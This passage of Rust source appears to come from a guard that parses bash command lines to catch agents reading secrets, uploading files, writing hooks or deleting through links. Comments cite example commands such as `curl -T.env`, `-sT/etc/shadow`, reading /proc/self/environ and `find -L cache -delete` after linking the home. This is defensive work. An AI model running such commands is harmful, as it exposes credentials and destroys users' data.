/// The descriptor a path names when it is one other than the standard input (`/dev/fd/3`,
/// `/proc/self/fd/3`)
fn descriptor_of(path: &str) -> Option<String> {
    let number = path.strip_prefix("/dev/fd/").or_else(|| {
        let rest = path.strip_prefix("/proc/")?;
        let (_, number) = rest.split_once("/fd/")?;
        Some(number)
    })?;
    (!number.is_empty() && number != "0" && number.bytes().all(|byte| byte.is_ascii_digit()))
        .then(|| number.to_owned())
}

/// The words of the command an `ext::` remote names: split at spaces, `% ` a space and `%%`
/// a `%` within a word; `%s` and its like stay as written (git-remote-ext(1))
fn ext_words(url: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut chars = url.chars();
    while let Some(ch) = chars.next() {
        match ch {
            '%' => match chars.next() {
                Some(' ') => push_char(&mut words, ' '),
                Some('%') => push_char(&mut words, '%'),
                Some(other) => {
                    push_char(&mut words, '%');
                    push_char(&mut words, other);
                }
                None => push_char(&mut words, '%'),
            },
            ' ' => words.push(String::new()),
            other => push_char(&mut words, other),
        }
    }
    words.retain(|word| !word.is_empty());
    words
}

/// Adds `ch` to the last of `words`
fn push_char(words: &mut [String], ch: char) {
    if let Some(word) = words.last_mut() {
        word.push(ch);
    }
}

/// The values of a binding known on the line; a value only known at run time is unknown,
/// added to `runs`
fn known_values<'a>(binding: &'a Binding, runs: &mut Runs) -> Vec<&'a str> {
    match binding {
        Binding::Known(values) => {
            let (unknown, known): (Vec<&String>, Vec<&String>) =
                values.iter().partition(|value| expand::is_unknown(value));
            if !unknown.is_empty() {
                runs.opaque.push(
                    "git's settings in its environment are only known at run time".to_owned(),
                );
            }
            known.into_iter().map(String::as_str).collect()
        }
        Binding::Unknown(why) => {
            runs.opaque.push(why.clone());
            Vec::new()
        }
        Binding::Array(_) | Binding::Reference(_) => {
            runs.opaque.push(
                "git's settings in its environment are an array or a reference, only known at run time".to_owned(),
            );
            Vec::new()
        }
    }
}

/// Why a variable the line made an array (or references that run in a circle) is read as
/// only known at run time where a program reads its environment: bash exports no array,
/// but a guard does not count on it
fn array_in_environment(name: &str) -> String {
    format!("`${name}` is an array or a reference the line sets, which a program's environment may hold only at run time")
}

/// The module a Python interpreter runs as a program (`-m pip`) and the words after it
fn python_module<'a>(program: &str, args: &'a [String]) -> Option<(&'a str, &'a [String])> {
    // The words first: most give no `-m`, and then the program need not be looked up.
    let module = knowledge::python_module(args)?;
    knowledge::interpreter(program).filter(|row| row.lang == knowledge::Lang::Python)?;
    Some(module)
}

/// The file that holds a process's environment, as the secrets pack names it
const ENVIRONMENT_FILE: &str = "/proc/self/environ";

/// Whether a redirect's operator writes the file it names (`>`, `>>`, `2>`, `&>`, `>|`),
/// rather than reading it or copying a descriptor (`>&2`)
fn writes_file(operator: &str) -> bool {
    operator.contains('>') && !operator.starts_with('<') && !operator.ends_with('&')
}

/// Why a hook the line writes without giving its text is unknown
fn unknown_hook(file: &str) -> String {
    if knowledge::configures_agent(file) {
        return format!(
            "`{file}` sets the agent's hooks and permissions: what a change to it runs later, with no check, is not read"
        );
    }
    format!(
        "`{file}` is a hook, run later with no check, and what it holds is only known when it is written"
    )
}

/// Whether the script files `program` runs are read as bash reads them: a Bourne shell's,
/// `source`'s, and the jobs `at` and `parallel` hand to `sh`; not a Vim script (`vim -S`),
/// an sftp batch (`sftp -b`) or an interpreter's code (`python3 < f`, read as code)
fn reads_scripts_as_bash(program: &str) -> bool {
    knowledge::BOURNE_SHELLS.contains(&program)
        || STDIN_RUNNERS.contains(&program)
        || matches!(program, "source" | "." | "parallel")
}

/// How many `GIT_CONFIG_KEY_n` pairs are read: more than any line sets by hand
const GIT_CONFIG_PAIRS: usize = 64;

/// The `KEY=VALUE` settings of `GIT_CONFIG_PARAMETERS`, each quoted as git writes them
/// (`'core.hooksPath'='h' 'core.pager'='less -R'`) or not
fn git_config_parameters(value: &str) -> Vec<String> {
    let mut settings = Vec::new();
    let mut current = String::new();
    let mut quoted = false;
    for ch in value.chars() {
        match ch {
            '\'' => quoted = !quoted,
            blank if blank.is_whitespace() && !quoted => {
                if !current.is_empty() {
                    settings.push(std::mem::take(&mut current));
                }
            }
            other => current.push(other),
        }
    }
    if !current.is_empty() {
        settings.push(current);
    }
    settings
}

/// The `-c KEY=VALUE` settings a `git` command is given before its subcommand
fn git_settings(args: &[String]) -> impl Iterator<Item = &str> {
    args.windows(2).filter_map(|pair| match pair {
        [option, setting] if option == "-c" => Some(setting.as_str()),
        _ => None,
    })
}

/// The alias a `git` command's subcommand names among its own `-c alias.*` settings
fn git_alias(args: &[String]) -> Option<GitAlias> {
    let mut aliases = Vec::new();
    let mut index = 0;
    while let Some(arg) = args.get(index) {
        match arg.as_str() {
            "-c" => {
                let setting = args.get(index + 1)?;
                if let Some((key, value)) = setting.split_once('=') {
                    if let Some(name) = key.strip_prefix("alias.") {
                        aliases.push((name, value));
                    }
                }
                index += 2;
            }
            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--exec-path" => index += 2,
            other if other.starts_with('-') => index += 1,
            sub => {
                let (_, value) = aliases.iter().rev().find(|(name, _)| *name == sub)?;
                if let Some(script) = value.strip_prefix('!') {
                    return Some(GitAlias::Script(script.to_owned()));
                }
                let mut words: Vec<String> = args.get(..index)?.to_vec();
                words.extend(value.split_whitespace().map(str::to_owned));
                words.extend(args.get(index + 1..)?.iter().cloned());
                return Some(GitAlias::Words(words));
            }
        }
    }
    None
}

/// What env's own options do to the program it runs
#[derive(Default)]
struct EnvOptions {
    /// The folder `-C DIR` (`--chdir`) runs it in
    chdir: Option<String>,
    /// `-S STRING` (`--split-string`): the string split, which env runs with the words
    /// after its own, and where those begin
    split: Option<(Vec<String>, usize)>,
}

/// env's options read as getopt reads them: short ones in clusters (`-iS STRING`), the value
/// of `-u`, `-C` or `-S` glued to its letter or in the next word, long ones by any unique
/// prefix, their value after `=` or in the next word; they end at the program, or `--`
fn env_options(args: &[String]) -> EnvOptions {
    let mut options = EnvOptions::default();
    let mut words = args.iter().enumerate();
    while let Some((_, arg)) = words.next() {
        let (option, value) =
            if let Some(long) = arg.strip_prefix("--").filter(|long| !long.is_empty()) {
                let (name, glued) = match long.split_once('=') {
                    Some((name, value)) => (name, Some(value.to_owned())),
                    None => (long, None),
                };
                let option = match knowledge::full_option("env", name) {
                    "split-string" => 'S',
                    "chdir" => 'C',
                    "unset" => 'u',
                    _ => continue,
                };
                (
                    option,
                    glued.or_else(|| words.next().map(|(_, word)| word.clone())),
                )
            } else if let Some(cluster) = arg
                .strip_prefix('-')
                .filter(|cluster| !cluster.is_empty() && !cluster.starts_with('-'))
            {
                // Letters before the first that takes a value are flags (`-i`, `-0`, `-v`).
                let Some(at) = cluster.find(['u', 'C', 'S']) else {
                    continue;
                };
                let option = cluster.get(at..).and_then(|rest| rest.chars().next());
                let glued = cluster.get(at + 1..).filter(|rest| !rest.is_empty());
                let value = glued
                    .map(str::to_owned)
                    .or_else(|| words.next().map(|(_, word)| word.clone()));
                (option.unwrap_or('u'), value)
            } else if arg == "-" || wrapper::is_assignment(arg) {
                continue;
            } else {
                break;
            };
        match option {
            'C' => options.chdir = value,
            'S' => {
                let split = value
                    .unwrap_or_default()
                    .split_whitespace()
                    .map(str::to_owned)
                    .collect();
                let rest = words.next().map_or(args.len(), |(at, _)| at);
                options.split = Some((split, rest));
                break;
            }
            _ => {}
        }
    }
    options
}

/// Whether `find` is given no folder to search, and so searches the one it runs in: no
/// operand comes before its first test, action or operator (GNU find's `-H`, `-L`, `-P`,
/// `-D DEBUGOPTS` and `-OLEVEL` come before the folders), and no `-files0-from FILE` names
/// them
fn searches_its_folder(args: &[String]) -> bool {
    if args.iter().any(|arg| arg == "-files0-from") {
        return false;
    }
    let mut words = args.iter();
    while let Some(word) = words.next() {
        match word.as_str() {
            "-H" | "-L" | "-P" => {}
            "-D" => {
                words.next();
            }
            level if level.starts_with("-O") => {}
            first => return first.starts_with('-') || first == "(" || first == "!",
        }
    }
    true
}

/// The roots a `find` searches: its operands before the first test or action
fn find_roots(args: &[String]) -> Vec<String> {
    let roots: Vec<String> = args
        .iter()
        .skip_while(|arg| matches!(arg.as_str(), "-H" | "-L" | "-P"))
        .take_while(|arg| !arg.starts_with('-') && *arg != "(" && *arg != "!")
        .cloned()
        .collect();
    if roots.is_empty() {
        vec![".".to_owned()]
    } else {
        roots
    }
}

/// The searches whose options make them list names of files, not lines, with those options:
/// each program's own (`-L` is `--files-without-match` to grep, ag and ack, `--follow` to rg)
const SEARCH_LISTING_FLAGS: &[(&str, &[&str])] = &[
    ("grep", GREP_LISTING),
    ("egrep", GREP_LISTING),
    ("fgrep", GREP_LISTING),
    (
        "rg",
        &[
            "-l",
            "--files-with-matches",
            "--files-without-match",
            "--files",
        ],
    ),
    (
        "ag",
        &[
            "-l",
            "-L",
            "-g",
            "--files-with-matches",
            "--files-without-matches",
        ],
    ),
    (
        "ack",
        &[
            "-l",
            "-L",
            "-g",
            "--files-with-matches",
            "--files-without-matches",
        ],
    ),
];

/// grep's options that list names of files
const GREP_LISTING: &[&str] = &["-l", "-L", "--files-with-matches", "--files-without-match"];

/// The options that make `program`, a search, list names of files; `None` for a program
/// that is no search
fn search_listing_flags(program: &str) -> Option<&'static [&'static str]> {
    SEARCH_LISTING_FLAGS
        .iter()
        .find(|(search, _)| *search == program)
        .map(|(_, flags)| *flags)
}

/// The folders a search that lists names of files (`grep -rl`, `rg -l`, `rg --files`)
/// searches, whose files it names: its path operands, after the pattern unless an option
/// gives it, or `.`; `None` for a search that prints lines, not names
fn searched_roots(command: &SimpleCommand) -> Option<Vec<String>> {
    let lists = search_listing_flags(&command.program)
        .is_some_and(|flags| flags.iter().any(|flag| command.has_flag(flag)));
    if !lists || !command.unknown.is_empty() {
        return None;
    }
    let pattern_given = ["-e", "-f", "--regexp", "--file", "--files"]
        .iter()
        .any(|flag| command.has_flag(flag));
    let roots: Vec<String> = command
        .operands
        .iter()
        .skip(usize::from(!pattern_given))
        .cloned()
        .collect();
    Some(if roots.is_empty() {
        vec![".".to_owned()]
    } else {
        roots
    })
}

/// Whether a `git` command prints names of files below the folder it runs in, one per
/// line: `git ls-files` and `git diff --name-only` without a path operand that could lead
/// above it
fn lists_files_below(command: &SimpleCommand) -> bool {
    let lists = match command.subcommand.as_deref() {
        Some("ls-files") => true,
        Some("diff") => command.has_flag("--name-only"),
        _ => false,
    };
    // Names are printed relative to where git runs (`-C DIR` too), and `rm` reads them
    // from its own folder: only a path operand can lead them up.
    let mut after = command
        .operands
        .iter()
        .skip_while(|operand| Some(operand.as_str()) != command.subcommand.as_deref())
        .skip(1);
    lists
        && after.all(|operand| {
            !operand.starts_with('/') && !operand.split('/').any(|part| part == "..")
        })
}

/// Whether `unset …` (its text) unsets the variable `IFS`: named, quoted or not, and no `-f`,
/// which unsets functions
fn unsets_ifs(text: &str) -> bool {
    let words = text.split_whitespace().skip(1);
    let mut names = words.map(|word| word.trim_matches(['\'', '"']));
    names.clone().all(|word| word != "-f") && names.any(|word| word == "IFS")
}

/// The case `declare -l` (lower) or `-u` (upper) keeps the values it assigns in, as bash(1)
/// says of those attributes: `declare -l x=RM` sets `x` to `rm`
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Case {
    Lower,
    Upper,
}

/// The [`Case`] a declaration's flags give, the upper case winning as bash's does
fn case_attribute<N: Syntax>(node: N, source: &str) -> Option<Case> {
    let mut case = None;
    for child in node.named_children().filter(|child| child.kind() == "word") {
        let Some(flags) = text(child, source)
            .strip_prefix('-')
            .filter(|flags| !flags.starts_with('-'))
        else {
            continue;
        };
        if flags.contains('u') {
            return Some(Case::Upper);
        }
        if flags.contains('l') {
            case = Some(Case::Lower);
        }
    }
    case
}

/// The names a declaration declares: those it assigns, and those it names alone
/// (`declare -l x`), flags aside
fn declared_names<'s, N: Syntax + 's>(
    node: N,
    source: &'s str,
) -> impl Iterator<Item = String> + 's {
    node.named_children().filter_map(move |child| {
        let word = text(child, source);
        match child.kind() {
            "variable_assignment" => word.split_once('=').map(|(name, _)| name.to_owned()),
            "word" | "variable_name" if expand::is_name(word) => Some(word.to_owned()),
            _ => None,
        }
    })
}

/// Whether a `declare`, `typeset` or `local` takes `-n`: its names are references
fn declares_references<N: Syntax>(node: N, source: &str) -> bool {
    node.named_children().any(|child| {
        let word = text(child, source);
        child.kind() == "word"
            && word.starts_with('-')
            && !word.starts_with("--")
            && word.contains('n')
    })
}

/// `upstream`, sorted and without duplicates
/// Whether `node` or a node below it is the operator `token` (`&`: a command run in the
/// background; `>>`: a file appended to)
fn holds_token<N: Syntax>(node: N, token: &str) -> bool {
    node.kind() == token || node.children().any(|child| holds_token(child, token))
}

fn sorted(upstream: &[usize]) -> Vec<usize> {
    let mut sorted = upstream.to_vec();
    sorted.sort_unstable();
    sorted.dedup();
    sorted
}

/// The positional parameters after `shift [N]` of known words, which drops the first N
/// (one when no count is given); `None` for what only run time knows: a count not
/// written as a number, a word among those dropped only known at run time (it may be
/// several), more than there are (bash then shifts none and fails), and `set`
fn shifted(mut params: Params, program: &str, args: &[String]) -> Option<Params> {
    if program != "shift" {
        return None;
    }
    let count = match args {
        [] => 1,
        [count] => count.parse::<usize>().ok()?,
        _ => return None,
    };
    let dropped = params.args.get(..count)?;
    if dropped.iter().any(|word| expand::is_unknown(word)) {
        return None;
    }
    params.args.drain(..count);
    Some(params)
}

/// Whether `program` with `args` sets the positional parameters anew: `shift`, and `set`
/// given words that are no options (`set -- a b`, `set a`; `set -e`, `set -o pipefail` not)
fn changes_parameters(program: &str, args: &[String]) -> bool {
    match program {
        "shift" => true,
        "set" => set_parameters(args).is_some(),
        _ => false,
    }
}

/// The positional parameters `set` with `args` sets: the words after its options (after
/// `--` or `-`, or from its first word that is no option); `None` when it sets none
fn set_parameters(args: &[String]) -> Option<&[String]> {
    let mut at = 0;
    while let Some(arg) = args.get(at) {
        match arg.strip_prefix(['-', '+']) {
            Some("" | "-") => return args.get(at + 1..),
            None => return args.get(at..),
            Some(cluster) => at += if cluster.contains('o') { 2 } else { 1 },
        }
    }
    None
}

/// Whether `program` changes the working directory of the commands after it
fn is_cd(program: &str) -> bool {
    program == "cd" || program == "pushd" || program == "popd"
}

/// Whether a child of a command of this kind is one of its words (not an assignment before
/// it, a redirect, a comment or a subshell `time` runs), as [`Reader::command`] sorts them
/// The variable (an array's name for an element) of `word` when it is `{NAME}` or
/// `{NAME[SUBSCRIPT]}` written right before a redirect's operator, the text `after` it:
/// bash(1), REDIRECTION, "each redirection that may be preceded by a file descriptor number
/// may instead be preceded by a word of the form {varname}"; a subscript that may run a
/// substitution is left a word, read as what it may run
fn descriptor_variable<'w>(word: &'w str, after: &str) -> Option<&'w str> {
    let redirect = (after.starts_with('<') || after.starts_with('>')) && !after.starts_with("<(");
    let inner = word
        .strip_prefix('{')?
        .strip_suffix('}')
        .filter(|_| redirect)?;
    let (name, subscript) = match inner.split_once('[') {
        Some((name, rest)) => (name, Some(rest.strip_suffix(']')?)),
        None => (inner, None),
    };
    let plain = |subscript: &str| {
        !subscript.is_empty() && !subscript.contains(['$', '`', '(', ']', '\'', '"'])
    };
    (expand::is_name(name) && subscript.is_none_or(plain)).then_some(name)
}

fn is_command_word(kind: &str) -> bool {
    !matches!(
        kind,
        "variable_assignment" | "comment" | "subshell" | "herestring_redirect" | "file_redirect"
    )
}

/// Where `cd DIR` leads, for the commands after it; a directory only known at run time
/// (`cd "$X"`, `cd -`, `popd`) leaves relative paths unresolved
/// A command's record from its program and the words after it
fn simple_command(
    program: String,
    args: Vec<String>,
    upstream: &[usize],
    context: &Context,
    links: &Links,
) -> SimpleCommand {
    let subcommand = subcommand_of(&program, &args).map(str::to_owned);
    let mut flags = Vec::new();
    let mut operands = Vec::with_capacity(args.len());
    let mut unknown = Vec::new();
    let mut flags_ended = false;
    // `kill`'s signal is its first word: a number after it is a process id, `-1` every
    // process (`kill -$SIG -1`), whether or not the signal is known.
    let signal_first = knowledge::SIGNAL_FIRST.contains(&program.as_str());
    let first_known = args.first().is_some_and(|arg| !expand::is_unknown(arg));
    // Words only known at run time are kept apart, with what is known of them.
    let mut process_files = Vec::new();
    let args: Vec<String> = if args.iter().any(|arg| expand::is_unknown(arg)) {
        args.into_iter()
            .filter(|arg| match UnknownWord::decode(arg) {
                Some(word) => {
                    // `/proc/$(pgrep x)/environ` is a process's environment, whichever.
                    process_files.extend(knowledge::process_file(&word.prefix, &word.suffix));
                    let (prefix, name) = through_links(word.prefix, word.name, context, links);
                    unknown.push(Unknown {
                        part: Part::Word {
                            prefix,
                            suffix: word.suffix,
                            split: word.split,
                            name,
                            dir: context.cwd.clone(),
                        },
                        why: word.why,
                    });
                    false
                }
                None => true,
            })
            .collect()
    } else {
        args
    };
    for (at, arg) in args.iter().enumerate() {
        let process =
            signal_first && !(at == 0 && first_known) && knowledge::is_process_number(arg);
        if flags_ended || process || arg == "-" || !arg.starts_with('-') {
            operands.push(arg.clone());
        } else if arg == "--" {
            flags_ended = true;
        } else if let Some(long) = arg.strip_prefix("--") {
            let name = long.split_once('=').map_or(long, |(name, _)| name);
            flags.push(flag("--", knowledge::full_option(&program, name)));
        } else {
            flags.extend(arg.chars().skip(1).map(|short| {
                let mut buffer = [0; 4];
                flag("-", short.encode_utf8(&mut buffer))
            }));
        }
    }
    // `rm x` removes a link `x`, not what it leads to; `rm x/` goes through it.
    let removes = matches!(program.as_str(), "rm" | "unlink");
    let mut paths = Vec::with_capacity(operands.len());
    let glued = args
        .iter()
        .take_while(|arg| *arg != "--")
        .filter_map(|arg| glued_path(arg));
    for operand in operands.iter().map(String::as_str).chain(glued) {
        let itself_is_link = removes && !operand.ends_with('/');
        match links.resolve(normalise(operand, context), itself_is_link) {
            Ok(path) => {
                // Most paths hold no pattern: one look, then none of the pattern readings.
                if memchr::memchr3(b'*', b'?', b'[', path.as_bytes()).is_some() {
                    paths.extend(secrets_a_pattern_may_name(&path));
                    paths.extend(secrets_patterned_folders_may_name(&path));
                    paths.extend(system_folders_a_pattern_may_name(&path));
                }
                paths.push(path);
            }
            Err(why) => unknown.push(unknown_path_in(
                &context.cwd,
                format!("`{operand}` goes through a link made on this line, and {why}"),
            )),
        }
    }
    paths.extend(process_files.into_iter().map(str::to_owned));
    // `ln -s ~ cache/h && find -L cache -delete` goes on into the home.
    if !links.is_empty() && knowledge::follows_links(&program, &args, &flags) {
        let roots = paths.clone();
        for reached in roots.iter().flat_map(|root| links.reached_below(root)) {
            match reached {
                Ok(path) => paths.push(path),
                Err(why) => unknown.push(unknown_path_in(
                    &context.cwd,
                    format!("`{program}` follows a link made on this line, and {why}"),
                )),
            }
        }
    }
    let mut stdin_from = upstream.to_vec();
    stdin_from.sort_unstable();
    stdin_from.dedup();
    SimpleCommand {
        program,
        args,
        flags,
        operands,
        paths,
        subcommand,
        redirects: Vec::new(),
        writes: Vec::new(),
        stdin_from,
        captured: false,
        expands: Vec::new(),
        unknown,
    }
}

/// What is known of a path only known at run time, for a command run in `context`
fn target(word: &UnknownWord, context: &Context) -> Target {
    Target {
        prefix: word.prefix.clone(),
        suffix: word.suffix.clone(),
        name: word.name,
        dir: context.cwd.clone(),
    }
}

/// A path of a command only known at run time, of which nothing is known, read in `dir`,
/// and why
fn unknown_path_in(dir: &Option<String>, why: String) -> Unknown {
    Unknown {
        part: Part::Word {
            prefix: String::new(),
            suffix: String::new(),
            split: false,
            name: false,
            dir: dir.clone(),
        },
        why,
    }
}

/// A word only known at run time, of which nothing is known, and why
/// A file named by a pattern (`/e*/pass?d`), which bash matches against the files there
/// are when the command runs: only the path up to its first pattern character is known
fn pattern_file(word: &str, context: &Context) -> Option<UnknownWord> {
    // `DIR/*` is how the reader names all that a folder holds (`tar -C DIR` writes it).
    let folder_whole = word
        .strip_suffix("/*")
        .is_some_and(|folder| !folder.contains(['*', '?', '[']));
    if folder_whole || !word.contains(['*', '?', '[']) || expand::is_unknown(word) {
        return None;
    }
    let path = normalise(word, context);
    // Quoting is gone by now, and a project names files with brackets (`app/[id]/page.tsx`):
    // a pattern below a project folder is read as the name it may be, since the files it
    // matches there are the project's. Not below `/` or a folder holding the home, nor in
    // `.git`, whose hooks run later.
    let project = context.cwd.as_deref().map(|cwd| cwd.trim_end_matches('/'));
    let inside = project.is_some_and(|cwd| {
        !cwd.is_empty()
            && !context.home.as_deref().is_some_and(|home| {
                home.strip_prefix(cwd)
                    .is_some_and(|rest| rest.is_empty() || rest.starts_with('/'))
            })
            && path
                .strip_prefix(cwd)
                .is_some_and(|below| below.starts_with('/') && !below.contains("/.git/"))
    });
    if inside {
        return None;
    }
    let known = path.find(['*', '?', '[']).unwrap_or(path.len());
    let (prefix, rest) = path.split_at(known);
    Some(UnknownWord {
        prefix: prefix.to_owned(),
        suffix: String::new(),
        split: false,
        // A pattern's `*` and `?` never match a `/`: a rest without one is a name.
        name: !rest.contains('/'),
        own_code: false,
        one_word: false,
        why: format!("`{word}` is a pattern, matched against the files there are when it runs"),
    })
}

/// Why inline code of `program` that starts a shell or an interpreter with no script is
/// unknown
fn starts_a_reader_of_fed_code(program: &str) -> String {
    format!(
        "the code of `{program}` starts a shell or an interpreter with no script, which runs what the code feeds it: known only at run time"
    )
}

/// Whether a command line is words a shell splits at blanks alone: no quote, escape,
/// expansion, redirect or operator
fn is_plain_words(line: &str) -> bool {
    !line.contains(|ch: char| "|&;<>()$`'\"\\*?[]{}~#=\n".contains(ch))
}

/// Whether inline code's `words` start a shell or an interpreter with no script, which then
/// reads its code from the input the code gives it (`['sh']`, `['bash', '-i']`,
/// `['python3']`): a shell given no `-c` and no file, an interpreter as
/// [`knowledge::reads_code_from_input`] reads its words
fn reads_code_the_caller_feeds(words: &[Value]) -> bool {
    let Some((Value::Known(program), rest)) = words.split_first() else {
        return false;
    };
    let Some(args) = rest
        .iter()
        .map(|word| match word {
            Value::Known(word) => Some(word.clone()),
            Value::Unknown(_) => None,
        })
        .collect::<Option<Vec<String>>>()
    else {
        return false;
    };
    let name = program.rsplit('/').next().unwrap_or(program);
    // `python3 --version` answers and ends.
    if args
        .iter()
        .any(|arg| matches!(arg.as_str(), "--version" | "-V" | "--help" | "-h"))
    {
        return false;
    }
    if SHELLS.contains(&name) {
        let code_or_file =
            |arg: &String| !arg.starts_with('-') || (!arg.starts_with("--") && arg.contains('c'));
        return !args.iter().any(code_or_file);
    }
    knowledge::reads_code_from_input(name, &args)
}

/// What the latest entry for `key` of a list the line adds to as it goes holds; `None`
/// when there is none
fn latest<'a, T>(list: &'a [(String, Vec<T>)], key: &str) -> Option<&'a [T]> {
    list.iter()
        .rev()
        .find(|(entry, _)| entry == key)
        .map(|(_, values)| values.as_slice())
}

/// What the words of a command expand of the environment's secrets
#[derive(Debug, Clone, Default)]
struct SecretWords {
    /// The environment's variables the words expand ([`SimpleCommand::expands`])
    names: Vec<String>,
    /// A variable the line does not set whose name marks a credential (`$GITHUB_TOKEN`), or
    /// one named at run time (`${!v}`)
    expanded: bool,
    /// One whose name the words hide ([`Reader::hides_a_secret`])
    hidden: bool,
}

/// Why the variable of a descriptor bash opens (`{fd}>f`, a coprocess's) is unknown
const OPENED_DESCRIPTOR: &str = "is a descriptor bash opens at run time";

/// The value bash gives the variable `name` of a descriptor it opens: a number only known
/// at run time, one word and no path
fn descriptor_number(name: &str) -> String {
    UnknownWord {
        name: true,
        one_word: true,
        ..unknown_path(format!("`${name}` {OPENED_DESCRIPTOR}"))
    }
    .encode()
}

/// Whether the target of `>&` names a descriptor, which it duplicates or closes rather than
/// write a file of that name: `-`, a number, or the variable of one bash opened
fn is_descriptor(target: &str) -> bool {
    target == "-"
        || (!target.is_empty() && target.bytes().all(|byte| byte.is_ascii_digit()))
        || UnknownWord::decode(target)
            .is_some_and(|word| word.prefix.is_empty() && word.why.ends_with(OPENED_DESCRIPTOR))
}

fn unknown_path(why: String) -> UnknownWord {
    UnknownWord {
        prefix: String::new(),
        suffix: String::new(),
        split: false,
        name: false,
        own_code: false,
        one_word: false,
        why,
    }
}

/// The known start of a word only known at run time, and whether it is a name, through
/// the links made on the line: after `ln -s ~ x`, `x/$Y` starts with the home, not `x/`
fn through_links(prefix: String, name: bool, context: &Context, links: &Links) -> (String, bool) {
    let Some(slash) = prefix.rfind('/').filter(|_| !links.is_empty()) else {
        return (prefix, name);
    };
    let (folder, rest) = prefix.split_at(slash + 1);
    let written = normalise(folder, context);
    match links.resolve(written.clone(), false) {
        Ok(path) if path == written => (prefix, name),
        Ok(path) => {
            let start = path.strip_suffix('/').unwrap_or(&path);
            (format!("{start}/{rest}"), false)
        }
        Err(_) => (String::new(), false),
    }
}

/// The commands `fd -x CMD` (`-X`, `--exec`, `--exec-batch`) runs on what it finds: the
/// words after the option, once per search path, `{}` standing for it or the path after
/// them
fn fd_exec(args: &[String]) -> Vec<Vec<String>> {
    let Some(at) = args
        .iter()
        .position(|arg| matches!(arg.as_str(), "-x" | "-X" | "--exec" | "--exec-batch"))
    else {
        return Vec::new();
    };
    let (search, command) = args.split_at(at);
    let command = command.get(1..).unwrap_or_default();
    let mut operands = search.iter().filter(|arg| !arg.starts_with('-'));
    operands.next();
    let mut roots: Vec<&String> = operands.collect();
    let dot = ".".to_owned();
    if roots.is_empty() {
        roots.push(&dot);
    }
    roots
        .into_iter()
        .map(|root| {
            let mut words: Vec<String> = command
                .iter()
                .map(|word| {
                    if word == "{}" {
                        root.clone()
                    } else {
                        word.clone()
                    }
                })
                .collect();
            if !command.iter().any(|word| word.contains("{}")) {
                words.push(root.clone());
            }
            words
        })
        .collect()
}

/// `template` with `line` put for each `replace` in its words; a line only known at run
/// time makes the words it enters unknown, with what comes before it known
fn put_for(template: &[String], replace: &str, line: &str) -> Vec<String> {
    template
        .iter()
        .map(|word| {
            let Some(at) = word.find(replace) else {
                return word.clone();
            };
            match UnknownWord::decode(line) {
                None => word.replace(replace, line),
                Some(_) if word == replace => line.to_owned(),
                Some(unknown) => UnknownWord {
                    prefix: word.get(..at).unwrap_or_default().to_owned(),
                    suffix: String::new(),
                    split: false,
                    name: false,
                    own_code: false,
                    one_word: false,
                    why: unknown.why,
                }
                .encode(),
            }
        })
        .collect()
}

/// The first operand of `args` after the program's global options and their values;
/// `None` when a word before it is only known at run time
fn subcommand_of<'a>(program: &str, args: &'a [String]) -> Option<&'a str> {
    let valued = knowledge::global_valued_options(program);
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if expand::is_unknown(arg) {
            return None;
        }
        if arg == "--" {
            return words
                .next()
                .filter(|word| !expand::is_unknown(word))
                .map(|word| knowledge::command_name(program, word));
        }
        if arg.starts_with('-') && arg != "-" {
            if valued.contains(&arg.as_str()) {
                words.next();
            }
            continue;
        }
        return Some(knowledge::command_name(program, arg));
    }
    None
}

/// A flag as listed: its dashes, then its name
fn flag(dashes: &str, name: &str) -> String {
    let mut flag = String::with_capacity(dashes.len() + name.len());
    flag.push_str(dashes);
    flag.push_str(name);
    flag
}

/// The value of a short option (`-c VALUE`) or a long one (`--command=VALUE`, `--command VALUE`)
fn option_value(args: &[String], short: char, long: &str) -> Option<String> {
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if let Some(value) = arg
            .strip_prefix(long)
            .and_then(|rest| rest.strip_prefix('='))
        {
            return Some(value.to_owned());
        }
        let is_short = arg
            .strip_prefix('-')
            .is_some_and(|cluster| !cluster.starts_with('-') && cluster.ends_with(short));
        if is_short || arg == long {
            return words.next().cloned();
        }
    }
    None
}

/// The values of options spelled whole, never in a cluster (`--defaults-file F`,
/// `--defaults-file=F`, `-init F`)
fn whole_option_values<'a>(args: &'a [String], options: &[&str]) -> Vec<&'a str> {
    let mut values = Vec::new();
    // Most rows name no such option: no word need be looked at.
    if options.is_empty() {
        return values;
    }
    let mut words = args.iter();
    while let Some(arg) = words.next() {
        if options.contains(&arg.as_str()) {
            values.extend(words.next().map(String::as_str));
        } else if let Some((name, value)) = arg.split_once('=') {
            if options.contains(&name) {
                values.push(value);
            }
        }
    }
    values
}

/// The value glued to a short option in `arg` when it starts as a path does, with `.` or
/// `/` (`curl -T.env`, `-sT/etc/shadow`): getopt hands the rest of the word to the option
/// that takes a value, and no option's letter is `.` or `/`, so the path is the program's
fn glued_path(arg: &str) -> Option<&str> {
    let cluster = arg
        .strip_prefix('-')
        .filter(|rest| !rest.starts_with('-'))?;
    let at = cluster.get(1..)?.find(['.', '/'])? + 1;
    cluster.get(at..)
}

/// The secret files a `find` may find below its roots: those whose name one of its `-name`
/// or `-iname` patterns matches (`find ~ -name 'id_*'` may find `~/.ssh/id_rsa`), each
/// where it lies below a root (see [`knowledge::SECRET_FILES`])
fn found_secrets(args: &[String], roots: &[String]) -> Vec<String> {
    let patterns: Vec<&String> = args
        .windows(2)
        .filter_map(|pair| match pair {
            [test, name] if matches!(test.as_str(), "-name" | "-iname") => Some(name),
            _ => None,
        })
        .filter(|name| !expand::is_unknown(name))
        .collect();
    if patterns.is_empty() {
        return Vec::new();
    }
    let secrets: Vec<&str> = knowledge::SECRET_FILES
        .iter()
        .copied()
        .filter(|secret| {
            let name = secret.rsplit('/').next().unwrap_or(secret);
            patterns
                .iter()
                .any(|pattern| name_glob::may_match_name(pattern, name))
        })
        .collect();
    // A root above the homes (`/`, `/home`) finds a home's secrets too.
    let mut folders: Vec<&str> = roots
        .iter()
        .filter(|root| !expand::is_unknown(root))
        .map(|root| root.trim_end_matches('/'))
        .collect();
    if folders
        .iter()
        .any(|folder| matches!(*folder, "" | "/home" | "/Users"))
    {
        folders.push("~");
    }
    let mut found: Vec<String> = folders
        .iter()
        .flat_map(|folder| {
            secrets
                .iter()
                .map(move |secret| format!("{folder}/{secret}"))
        })
        .collect();
    // A home's own stores, from a root at or above the home only.
    for store in knowledge::HOME_STORES.iter().filter(|store| {
